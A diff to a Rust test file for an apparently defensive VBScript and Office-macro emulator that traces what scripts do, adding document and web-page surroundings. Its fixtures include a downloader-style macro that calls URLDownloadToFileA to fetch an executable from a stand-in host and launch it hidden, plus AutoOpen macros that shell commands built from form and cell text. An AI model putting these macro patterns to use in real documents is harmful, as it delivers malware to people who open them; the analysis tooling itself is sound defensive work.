@@ -1,7 +1,8 @@
 //! What scripts and macros do, as the trace tells it. Every one here is inert: what it would fetch does not exist.
 
 use proptest::prelude::{ProptestConfig, Strategy, proptest};
-use script_host::{Ended, Host, Run, Settings, Trace};
+use script_host::markup::Page;
+use script_host::{Ended, Host, Run, Settings, Surroundings, Trace};
 
 fn run(script: &str) -> Trace {
     run_with(script, Settings::default())
@@ -11,6 +12,11 @@ fn run_with(script: &str, settings: Settings) -> Trace {
     let steps = settings.steps;
     let (host, Run { ended, error, steps }) = vbscript::run(Host::new(settings, script.as_bytes()), &[script], steps);
     host.into_trace(ended, &error, steps)
+}
+
+/// What a document's macros do.
+fn run_macro(script: &str) -> Trace {
+    run_with(script, Settings { surroundings: Surroundings::Document, ..Settings::default() })
 }
 
 /// What a script tells by `WScript.Echo`, one row a call.
@@ -191,7 +197,8 @@ fn code_that_is_made_is_traced() {
 
 #[test]
 fn macros_begin_where_office_calls_them() {
-    let trace = run(r#"
+    let trace = run_macro(
+        r#"
 Attribute VB_Name = "ThisDocument"
 #If VBA7 Then
 Private Declare PtrSafe Function Load Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
@@ -212,7 +219,8 @@ Private Sub Launch(ByVal what As String)
     Shell what, vbHide
     Debug.Print "x"
 End Sub
-"#);
+"#,
+    );
     assert_eq!(trace.ended, Some(Ended::Finished), "{} {:?}", trace.error, trace.calls);
     assert!(trace.network.iter().any(|it| it.target == "http://docs.example/c.exe"), "{:?}", trace.network);
     assert_eq!(trace.processes[0].target, "C:\\Users\\jsmith\\AppData\\Local\\Temp\\c.exe");
@@ -224,9 +232,41 @@ End Sub
 #[test]
 fn objects_of_a_document_are_waited_for() {
     let trace =
-        run("Sub AutoOpen()\nShell UserForm1.TextBox1.Text\nx = ActiveDocument.Variables(\"a\").Value\nEnd Sub");
+        run_macro("Sub AutoOpen()\nShell UserForm1.TextBox1.Text\nx = ActiveDocument.Variables(\"a\").Value\nEnd Sub");
     let waits: Vec<&str> = trace.waits.iter().map(|it| it.target.as_str()).collect();
     assert_eq!(waits, ["UserForm1", "Variables a"]);
+}
+
+#[test]
+fn a_script_by_itself_has_no_objects_but_those_that_it_makes() {
+    for script in ["Sheet1.Range(\"A1\").Value = 1", "x = Form.Box.Text", "Dim a\na.Run \"calc\"", "document.write 1"] {
+        let trace = run(script);
+        assert_eq!(trace.ended, Some(Ended::Exception), "{script}");
+        assert!(trace.error.contains("424") && trace.error.contains("Object required"), "{}", trace.error);
+        assert!(trace.waits.is_empty() && trace.calls.is_empty(), "{:?} {:?}", trace.waits, trace.calls);
+        let passed = format!(
+            "On Error Resume Next\n{script}\nWScript.Echo Err.Number & TypeName(unheard)\nErr.Clear\nWScript.Echo Err.Number"
+        );
+        assert_eq!(echoed(&passed), ["424Empty", "0"], "{script}");
+    }
+}
+
+#[test]
+fn a_script_in_a_page_has_its_elements() {
+    let page = "<div id=Hidden style='display:none'>in it</div><input id=x name=y value=v>";
+    let script = "WScript.Echo hidden.innerText, x.value, document.getElementById(\"y\").value, document.all(\"x\").value\n\
+                  For Each it In document.getElementsByTagName(\"input\") : WScript.Echo it.id : Next\n\
+                  WScript.Echo document.getElementsByTagName(\"div\")(0).innerHTML, document.forms.length\n\
+                  On Error Resume Next\nnone.value = 1\nWScript.Echo Err.Number";
+    let settings = Settings { surroundings: Surroundings::Page, ..Settings::default() };
+    let steps = settings.steps;
+    let mut host = Host::new(settings, page.as_bytes());
+    host.page = Page::of(page);
+    let (host, run) = vbscript::run(host, &[script], steps);
+    let trace = host.into_trace(run.ended, &run.error, run.steps);
+    let echoes = trace.calls.iter().filter(|call| call.api == "WScript.Echo");
+    let told: Vec<String> = echoes.map(|call| call.args.join("|")).collect();
+    assert_eq!(told, ["in it|v|v|v", "x", "in it|1", "424"], "{}", trace.error);
 }
 
 #[test]
@@ -379,7 +419,7 @@ fn cells_are_empty_and_waited_for() {
         ("Cells(1, 2)", vec!["Cells 1,2"]),
     ] {
         let trace =
-            run(&format!("Sub Auto_Open()\nDim c As String\nc = {expression}\nShell \"cmd /c \" & c\nEnd Sub\n"));
+            run_macro(&format!("Sub Auto_Open()\nDim c As String\nc = {expression}\nShell \"cmd /c \" & c\nEnd Sub\n"));
         assert_eq!((trace.ended, trace.processes.len()), (Some(Ended::Finished), 1), "{expression}: {}", trace.error);
         assert_eq!(trace.processes[0].target.trim(), "cmd /c", "{expression}");
         let told: Vec<&str> = trace.waits.iter().map(|it| it.target.as_str()).collect();
